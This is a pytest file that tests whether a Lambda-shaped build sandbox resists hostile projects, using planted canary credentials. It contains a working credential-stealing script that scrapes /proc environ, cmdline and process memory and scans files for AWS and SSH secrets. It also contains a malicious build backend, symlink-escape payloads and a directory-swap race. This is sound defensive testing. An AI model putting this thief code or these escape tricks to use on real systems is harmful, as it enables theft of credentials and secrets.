"""What a hostile project can and cannot reach, tried by one, in the sandbox that is shaped like Lambda."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.support.embedded import NEWEST, Builder, FunctionFailed, small_zip
from tests.support.git_host import publish
from tests.support.package_index import PASSWORD, Index, address
from tests.support.ssh_host import SshHost, keygen, needs_sshd
from tests.support.wheels import make_wheel

pytestmark = [pytest.mark.embedded, NEWEST]

TOKEN, PASSPHRASE = "canary-git-token-0123456789", "canary-passphrase-4d2a"

THIEF = '''
"""Look for credentials wherever a process of this user can look; append what is found to a file."""
import glob, os, re, sys

INTERESTING = re.compile(rb"(?:ASIA|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|canary|b3BlbnNzaC1rZXk)[^\\0\\n]{0,300}")
loot = [repr(dict(os.environ)).encode()]

def read(path, size=-1):
    try:
        with open(path, "rb") as file:
            return file.read(size)
    except OSError as error:
        return b""

for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    loot.append(read(path))
for pid in (name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()):
    for line in read(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if line.split()[1].startswith("rw"):
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(start)
                    loot += INTERESTING.findall(memory.read(end - start))
            except (OSError, OverflowError, ValueError):
                pass
for root in ("/tmp", "/var/task"):
    for directory, _, names in os.walk(root):
        for name in names:
            if os.path.join(directory, name) != os.path.abspath(__file__):
                loot += INTERESTING.findall(read(os.path.join(directory, name), 5_000_000))
with open(sys.argv[1], "ab") as file:
    file.write(b"\\n".join(loot))
'''

VICTIM = """
import subprocess, sys

def lambda_handler(event, context):
    subprocess.run([sys.executable, "thief.py", "/tmp/loot"], env={}, check=True)
    return open("/tmp/loot", errors="replace").read()
"""


def test_the_thief_is_good_at_it(builder: Builder) -> None:
    """A function that takes no care loses its credentials to a child with an empty environment."""
    name = f"victim-{builder.name}"
    code = small_zip({"lambda_function.py": VICTIM, "thief.py": THIEF})
    builder.create_function(name, code=code)
    loot = builder.invoke(name, {})
    assert any(secret in loot for secret in builder.aws.secrets)


@dataclass
class Guarded:
    """A builder that holds every kind of secret but one: a Git host takes a token or a deploy key."""

    name: str
    publish: Callable[[Mapping[str, str]], object]
    secrets: Sequence[str]


@pytest.fixture
def https(builder: Builder) -> Guarded:
    """With a token."""
    variables = {"YO_DAWG_TOKEN_SECRET": "git-token", "YO_DAWG_INDEX_SECRET": "index-https"}
    builder.aws.client("secretsmanager").create_secret(Name="git-token", SecretString=TOKEN)
    name = builder.install(name=f"{builder.name}-https", variables=variables)
    return Guarded(name, lambda files: builder.add_project("thief", files), [TOKEN])


@pytest.fixture
def ssh(builder: Builder, tmp_path: Path) -> Iterator[Guarded]:
    """With a deploy key."""
    host = SshHost(tmp_path)
    key = keygen(tmp_path / "deploy", "ed25519", PASSPHRASE)
    host.allow(key)
    process = host.start()
    text = json.dumps({"private_key": key.read_text(), "passphrase": PASSPHRASE})
    builder.aws.client("secretsmanager").create_secret(Name="git-key", SecretString=text)
    variables = {
        "YO_DAWG_BASE_URL": host.url.rpartition("/")[0],
        "YO_DAWG_KNOWN_HOSTS": host.known_hosts,
        "YO_DAWG_DEPLOY_KEY_SECRET": "git-key",
        "YO_DAWG_INDEX_SECRET": "index-ssh",
    }
    with contextlib.suppress(builder.functions.exceptions.ResourceConflictException):
        builder.create_function("thief")
    name = builder.install(name=f"{builder.name}-ssh", variables=variables)
    lines = [line for line in key.read_text().splitlines() if "-----" not in line]
    yield Guarded(name, lambda files: publish(tmp_path, "thief", files), [PASSPHRASE, *lines])
    process.terminate()
    process.wait()


@pytest.mark.parametrize("how", ["https", pytest.param("ssh", marks=needs_sshd)])
def test_a_thief_in_the_project_finds_no_credentials(
    builder: Builder, how: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    (tmp_path / "wheels").mkdir()
    make_wheel(tmp_path / "wheels", "alpha", "1.0", {"alpha.py": ""})
    index = Index(tmp_path / "wheels", private=True)
    with index.serving():
        builder.aws.client("secretsmanager").create_secret(Name=f"index-{how}", SecretString=address(index))
        guarded: Guarded = request.getfixturevalue(how)
        builder.share_toolchain(guarded.name)
        # Its make_dist.sh looks, and so does the build of a source distribution among its requirements.
        guarded.publish(
            {
                "lambda_function.py": "def lambda_handler(event, context):\n    return 'ok'\n",
                "thief.py": THIEF,
                "make_dist.sh": 'set -e\ncp lambda_function.py "$1"\ncp -r . "$1/project"\n'
                '"$PYTHON" thief.py "$1/loot"\ncat "$1/loot"\n',
                "requirements.txt": "./lib\nalpha\n",
                "lib/pyproject.toml": PYPROJECT,
                "lib/thief.py": THIEF,
                "lib/backend.py": BACKEND.replace("  # hostile", STEAL),
            }
        )
        result = builder.build("thief", builder=guarded.name)
    assert "alpha==1.0" in result["dependencies"]

    archive = builder.package("thief", builder=guarded.name)
    shipped = {name: archive.read(name) for name in archive.namelist()}
    assert b"'PATH'" in shipped["loot"], "make_dist.sh's thief did run"
    assert b"'PATH'" in shipped["lib_loot"], "the source distribution's thief did run"
    everything = {
        **{f"package: {name}": content for name, content in shipped.items()},
        **builder.stored(f"{guarded.name}/"),
        "result": json.dumps(result).encode(),
        "log": builder.logs(guarded.name).encode(),
    }
    for place, content in everything.items():
        for secret in (*builder.aws.secrets, *guarded.secrets, PASSWORD, quote(PASSWORD, safe="")):
            assert secret.encode() not in content, place


PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'

STEAL = """
  sys.argv = ["thief.py", os.path.abspath("lib_loot")]
  runpy.run_path("thief.py")
"""

MOVE = """
  if not os.path.islink("/tmp/yo-dawg/checkout"):
    os.makedirs("/tmp/fake/tmp/evil")
    os.symlink("/tmp/yo-dawg/moved/lib", "/tmp/fake/lib")
    os.symlink("/proc/self/environ", "/tmp/fake/tmp/evil/loot")
    os.rename("/tmp/yo-dawg/checkout", "/tmp/yo-dawg/moved")
    os.symlink("/tmp/fake", "/tmp/yo-dawg/checkout")
  open("lib_loot", "w").close()
"""

BACKEND = '''
"""A build backend that does harm, then makes a wheel."""
import os, runpy, sys, zipfile

def build_wheel(directory, config_settings=None, metadata_directory=None):
  # hostile
  name = "lib-1.0-py3-none-any.whl"
  with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
    wheel.write("lib_loot", "lib_loot")
    wheel.writestr("lib-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: lib\\nVersion: 1.0\\n")
    wheel.writestr("lib-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    wheel.writestr("lib-1.0.dist-info/RECORD", "lib_loot,,\\nlib-1.0.dist-info/METADATA,,\\n"
    "lib-1.0.dist-info/WHEEL,,\\nlib-1.0.dist-info/RECORD,,\\n")
  return name
'''


@pytest.mark.parametrize(
    "link",
    [
        pytest.param('ln -s /proc/self/environ "$1/loot"', id="to /proc"),
        pytest.param('ln -s /var/task/lambda_function.py "$1/loot"', id="to the builder's code"),
        pytest.param('ln -s ../toolchain "$1/loot"', id="to the toolchain"),
        pytest.param('mkdir "$1/a" && ln -s .. "$1/a/b" && ln -s a/b/../checkout.json "$1/loot"', id="through a link"),
    ],
)
def test_a_link_out_of_the_package_is_refused(builder: Builder, link: str) -> None:
    builder.add_project("linker", {"lambda_function.py": HANDLER, "make_dist.sh": f'cp *.py "$1"\n{link}\n'})
    before = builder.functions.get_function_configuration(FunctionName="linker")["CodeSha256"]
    with pytest.raises(FunctionFailed) as failed:
        builder.build("linker")
    assert failed.value.type == "PackageError"
    assert "outside of the package" in failed.value.message
    assert builder.functions.get_function_configuration(FunctionName="linker")["CodeSha256"] == before


HANDLER = "def lambda_handler(event, context):\n    return 'ok'\n"

LEAVE_TRACES = """
cp *.py "$1"
touch /tmp/trace "$HOME/trace" "$TMPDIR/trace"
mkdir -p /tmp/locked/deep && chmod 000 /tmp/locked
sleep 10001 &
"$PYTHON" -c 'import os; os.fork() or (os.setsid(), os.fork() or os.execlp("sleep", "sleep", "10002"))'
until grep -q 10002 /proc/[0-9]*/cmdline 2> /dev/null; do :; done
"""

LOOK_FOR_TRACES = """
cp *.py "$1"
find_them() { for each in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$each" 2> /dev/null; done; }
{ find_them | grep -o 'sleep 1000[0-9]' || true; ls -A /tmp; ls -A "$HOME" "$TMPDIR"; } > "$1/seen.txt"
"""


def test_a_build_leaves_nothing_to_the_next(builder: Builder) -> None:
    builder.add_project("littering", {"lambda_function.py": HANDLER, "make_dist.sh": LEAVE_TRACES})
    builder.add_project("looking", {"lambda_function.py": HANDLER, "make_dist.sh": LOOK_FOR_TRACES})
    builder.build("littering")
    builder.build("looking")
    seen = builder.package("looking").read("seen.txt").decode()
    assert "sleep" not in seen
    assert "trace" not in seen
    assert "locked" not in seen
    assert seen.split()[0] == "yo-dawg", "the listing of /tmp did work, and shows the workspace alone"


def test_what_outlasts_the_invocation_is_ended_in_time_and_leaves_nothing(builder: Builder) -> None:
    name = builder.install(name=f"{builder.name}-short")
    builder.share_toolchain(name)
    builder.add_project(
        "sleeper", {"lambda_function.py": HANDLER, "make_dist.sh": f"{LEAVE_TRACES}\necho going to bed\nsleep 10000\n"}
    )
    builder.add_project("looking", {"lambda_function.py": HANDLER, "make_dist.sh": LOOK_FOR_TRACES})
    builder.functions.update_function_configuration(FunctionName=name, Timeout=60)
    builder.functions.get_waiter("function_updated_v2").wait(FunctionName=name, WaiterConfig={"Delay": 1})
    with pytest.raises(FunctionFailed) as failed:
        builder.build("sleeper", builder=name)
    assert failed.value.type == "DeadlineError", failed.value
    assert "[5/8] run make_dist.sh" in failed.value.message
    environment = builder.aws.environments(name)
    builder.build("looking", builder=name)
    assert [each.pid for each in builder.aws.environments(name)] == [each.pid for each in environment], "a warm start"
    result = builder.build("looking", builder=name, dry_run=True)
    assert result["status"] == "built"


def test_a_link_in_the_place_of_the_checkout_ships_nothing(builder: Builder) -> None:
    files = {"lib/pyproject.toml": PYPROJECT, "lib/backend.py": BACKEND.replace("  # hostile", MOVE)}
    project = {"tmp/evil/lambda_function.py": HANDLER, "tmp/evil/requirements.txt": "../../lib\n"}
    builder.add_project("mover", {**files, **project})
    with pytest.raises(FunctionFailed) as failed:
        builder.build("mover", subdirectory="tmp/evil")
    assert failed.value.type == "DependencyError"
    assert "replaced the builder's directory 'checkout'" in failed.value.message


def test_nothing_of_the_builder_is_in_a_package(builder: Builder, tmp_path: Path) -> None:
    builder.add_project("plain", {"lambda_function.py": HANDLER, "data/a.txt": "a"})
    builder.build("plain")
    bytecode = f"__pycache__/lambda_function.cpython-{builder.runtime[6:].replace('.', '')}.pyc"
    assert builder.package("plain").namelist() == [bytecode, "data/a.txt", "lambda_function.py"]
